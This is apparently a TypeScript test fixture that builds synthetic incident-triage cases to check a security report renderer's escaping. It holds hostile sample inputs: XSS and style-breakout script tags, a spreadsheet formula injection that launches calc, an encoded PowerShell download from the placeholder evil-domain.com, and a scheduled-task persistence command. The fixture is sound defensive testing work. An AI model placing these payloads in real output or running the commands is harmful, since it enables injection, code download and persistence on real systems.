/** Hand-built triaged cases for the report tests: small, hostile where it matters, every section populated. */
import type { Attestation, CaseFile, Indicator, IndicatorType, TriageCase, Verdict } from '../../../src/engine/case';
import type { EventKind, NormalizedEvent } from '../../../src/engine/events';
import { defang } from '../../../src/engine/ioc';

export const HOSTILE_SUBJECT = '<img src=x onerror=alert(1)>';
export const STYLE_BREAKOUT = '</style><script>alert(2)</script>';
export const FORMULA_MESSAGE = "=cmd|' /C calc'!A0";
export const NON_LATIN_MESSAGE = 'Привет 中文 😀 Łódź naïve “quoted”';
export const QUOTED_URL = "http://evil-domain.com/it's\\path";

export function event(index: number, ts: string | null, message: string, kind: EventKind = 'process_creation', fields: NormalizedEvent['fields'] = {}): NormalizedEvent {
  const offset = 1000 + index * 512;
  return {
    id: `0:${offset}`,
    ts,
    source: 'evtx',
    kind,
    host: 'WS01.corp.example',
    user: 'CORP\\alice',
    message,
    fields,
    origin: { file: 'Security.evtx', offset, record: 100 + index },
  };
}

function indicator(type: IndicatorType, value: string, eventIds: string[], extra: Partial<Indicator> = {}): Indicator {
  return {
    type,
    value,
    defanged: defang(type, value),
    eventIds,
    count: eventIds.length,
    firstSeen: '2026-03-01T10:00:01.0000000Z',
    lastSeen: '2026-03-01T10:05:00.0000000Z',
    tier: 'unknown',
    sources: [],
    ...extra,
  };
}

export function sampleEvents(): NormalizedEvent[] {
  return [
    event(0, '2026-03-01T10:00:00.1234567Z', 'Logon of alice from 198.51.100.23', 'authentication'),
    event(1, '2026-03-01T10:00:01.0000000Z', `Mail received, subject: ${HOSTILE_SUBJECT}`, 'email'),
    event(2, '2026-03-01T10:00:02.0000000Z', 'powershell.exe -enc SQBFAFgA download http://evil-domain.com/a?x=1', 'process_creation', {
      CommandLine: 'powershell.exe -enc SQBFAFgA http://evil-domain.com/a?x=1',
    }),
    event(3, '2026-03-01T10:00:03.0000000Z', STYLE_BREAKOUT),
    event(4, '2026-03-01T10:00:04.0000000Z', FORMULA_MESSAGE),
    event(5, '2026-03-01T10:00:05.0000000Z', NON_LATIN_MESSAGE, 'ps_script'),
    event(6, '2026-03-01T10:00:06.0000000Z', 'schtasks.exe /create /tn Updater /tr C:\\Users\\Public\\u.exe', 'process_creation'),
    event(7, null, 'Record without a time'),
  ];
}

export function sampleAttestations(events: NormalizedEvent[]): Attestation[] {
  return [
    {
      id: 'att-1',
      ruleId: 'rule-ps-encoded',
      ruleTitle: 'Encoded PowerShell <b>download</b>',
      level: 'high',
      techniques: ['T1059.001'],
      tactics: ['execution'],
      eventIds: [events[2].id],
      matches: [{ eventId: events[2].id, fields: { CommandLine: 'powershell.exe -enc SQBFAFgA http://evil-domain.com/a?x=1' } }],
      firstTs: events[2].ts,
      lastTs: events[2].ts,
    },
    {
      id: 'att-2',
      ruleId: 'rule-schtasks',
      ruleTitle: 'Scheduled task created from a public folder',
      level: 'medium',
      techniques: ['T1053.005'],
      tactics: ['persistence'],
      eventIds: [events[6].id],
      matches: [{ eventId: events[6].id, fields: { Image: 'schtasks.exe' } }],
      firstTs: events[6].ts,
      lastTs: events[6].ts,
    },
    {
      id: 'att-3',
      ruleId: 'rule-phish',
      ruleTitle: 'Mail with script in the subject',
      level: 'critical',
      techniques: ['T1566.001', 'T1059.001'],
      tactics: ['initial-access', 'execution'],
      eventIds: [events[1].id, events[2].id],
      matches: [{ eventId: events[1].id, fields: { subject: HOSTILE_SUBJECT } }],
      correlation: { type: 'temporal_ordered', groupBy: { host: 'WS01.corp.example' }, rules: ['rule-phish-base', 'rule-ps-encoded'] },
      firstTs: events[1].ts,
      lastTs: events[2].ts,
    },
  ];
}

export function sampleIndicators(events: NormalizedEvent[]): Indicator[] {
  return [
    indicator('ipv4', '198.51.100.23', [events[0].id], { scope: 'reserved' }),
    indicator('domain', 'evil-domain.com', [events[2].id], {
      tier: 'high',
      sources: [{ source: 'threatfox', tier: 'high', detail: 'botnet C2 evil-domain.com', at: '2026-03-01T11:00:00.000Z' }],
    }),
    indicator('url', 'http://evil-domain.com/a?x=1', [events[2].id]),
    indicator('url', QUOTED_URL, [events[2].id]),
    indicator('email', 'mallory@evil-domain.com', [events[1].id]),
    indicator('sha256', 'a'.repeat(64), [events[2].id]),
    indicator('md5', 'b'.repeat(32), [events[2].id]),
    indicator('sha1', 'c'.repeat(40), [events[2].id]),
    indicator('domain', 'update.example.org', [events[6].id], { falsePositive: true, tier: 'benign' }),
  ];
}

export function sampleVerdict(events: NormalizedEvent[]): Verdict {
  return {
    verdict: 'incident',
    score: 86,
    confidence: 72,
    conclusion: 'Encoded PowerShell fetched http://evil-domain.com/a?x=1 after a phishing mail; a scheduled task persists it. [r1] [r2] [r9]',
    reasoning: [
      { id: 'r1', section: 'finding', text: 'Critical rule Mail with script in the subject matched', weight: 30, refs: [{ kind: 'attestation', id: 'att-3' }] },
      { id: 'r2', section: 'finding', text: 'PowerShell reached evil-domain.com', weight: 20, refs: [{ kind: 'event', id: events[2].id }, { kind: 'indicator', id: 'domain:evil-domain.com' }] },
      { id: 'r3', section: 'telemetry', text: 'No Sysmon network events: confidence reduced', weight: -5, refs: [{ kind: 'file', id: '0' }] },
      { id: 'r4', section: 'history', text: 'evil-domain.com was seen in case 2026-0012 (incident)', weight: 10, refs: [{ kind: 'history', id: 'case-2026-0012' }] },
      { id: 'r5', section: 'unclassified', text: 'Logon from a documentation address', weight: 3, refs: [{ kind: 'unclassified', id: 'u1' }, { kind: 'event', id: events[0].id }] },
    ],
    nextSteps: [
      { kind: 'containment', text: 'Isolate WS01.corp.example and block evil-domain.com', techniqueId: 'T1059.001', targets: ['WS01.corp.example', 'evil-domain.com'] },
      { kind: 'collection', text: 'Collect the scheduled task XML for Updater', techniqueId: 'T1053.005' },
      { kind: 'confidence', text: 'Enable Sysmon network logging' },
    ],
  };
}

export function sampleFiles(eventCount: number): CaseFile[] {
  return [
    {
      index: 0,
      name: 'Security.evtx',
      size: 69632,
      parserId: 'evtx',
      source: 'evtx',
      status: 'done',
      bytesDone: 69632,
      events: eventCount,
      issues: [
        { file: 'Security.evtx', offset: 4096, reason: 'bad chunk CRC <script>', structure: 'chunk header', severity: 'warning' },
        { file: 'Security.evtx', offset: 8192, reason: 'record size past chunk end', structure: 'record', severity: 'error' },
      ],
    },
  ];
}

export function sampleCase(): TriageCase {
  const events = sampleEvents();
  return {
    id: 'case-42',
    title: `Phish ${HOSTILE_SUBJECT}`,
    createdAt: '2026-03-01T12:00:00.000Z',
    files: sampleFiles(events.length),
    events,
    indicators: sampleIndicators(events),
    attestations: sampleAttestations(events),
    unclassified: [{ id: 'u1', severity: 'medium', reason: 'Logon from 198.51.100.23, a documentation range', eventIds: [events[0].id], indicators: ['198.51.100.23'] }],
    verdict: sampleVerdict(events),
  };
}

/** A case with no verdict yet, as the UI sees it mid-triage. */
export function pendingCase(): TriageCase {
  return { ...sampleCase(), verdict: null };
}

/** A case with `count` filler events besides the sample ones, to push it past the small-case threshold. */
export function bigCase(count: number): TriageCase {
  const base = sampleCase();
  const filler = Array.from({ length: count }, (_, index) => event(100 + index, `2026-03-01T09:${String(Math.floor(index / 60) % 60).padStart(2, '0')}:${String(index % 60).padStart(2, '0')}.0000000Z`, `filler ${index}`, 'log'));
  return { ...base, events: [...filler, ...base.events], files: sampleFiles(count + base.events.length) };
}
